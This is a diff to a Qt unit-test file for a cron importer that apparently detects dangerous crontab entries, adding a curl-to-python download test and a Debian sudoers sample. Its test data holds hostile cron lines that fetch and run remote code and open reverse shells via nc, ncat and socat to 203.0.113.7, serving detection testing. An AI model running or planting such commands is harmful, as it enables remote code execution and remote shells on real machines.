@@ -238,6 +238,8 @@ void TestCronImporter::detections_data()
     QTest::newRow("curl -o then chmod") << QByteArray("0 * * * * curl -s http://x.example/a -o /opt/a && chmod 755 "
                                                       "/opt/a && /opt/a")
                                         << QStringList{dl};
+    QTest::newRow("curl piped to python")
+        << QByteArray("@hourly curl -s https://203.0.113.7/p.py | python3 -") << QStringList{dl};
     QTest::newRow("nc -e") << QByteArray("@reboot nc -e /bin/sh 203.0.113.7 4444") << QStringList{rs};
     QTest::newRow("ncat --sh-exec") << QByteArray("@hourly ncat 203.0.113.7 443 --sh-exec 'bash'") << QStringList{rs};
     QTest::newRow("socat exec") << QByteArray("@hourly socat TCP:203.0.113.7:443 EXEC:/bin/bash") << QStringList{rs};
@@ -428,6 +430,15 @@ void TestCronImporter::sniff_data()
     QTest::newRow("one job, renamed") << QByteArray("@reboot /usr/local/bin/start\n") << "notes.txt" << true;
 
     QTest::newRow("sudoers") << readFile(dataPath(QStringLiteral("sudoers/90-cloud-init-users"))) << "sudoers" << false;
+    QTest::newRow("sudoers, Debian's") << QByteArray(
+                                              "#\n# This file MUST be edited with the 'visudo' command as root.\n#\n"
+                                              "Defaults\tenv_reset\nDefaults\tmail_badpass\n"
+                                              "Defaults\tsecure_path=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:"
+                                              "/usr/bin:/sbin:/bin\"\nDefaults\tuse_pty\n\n"
+                                              "# User privilege specification\nroot\tALL=(ALL:ALL) ALL\n\n"
+                                              "%admin ALL=(ALL) ALL\n%sudo\tALL=(ALL:ALL) ALL\n"
+                                              "@includedir /etc/sudoers.d\n")
+                                       << "sudoers" << false;
     QTest::newRow("sshd_config") << readFile(dataPath(QStringLiteral("sshd-config/sshd_config"))) << "sshd_config"
                                  << false;
     QTest::newRow("login.defs") << readFile(dataPath(QStringLiteral("password-policy/login.defs"))) << "login.defs"
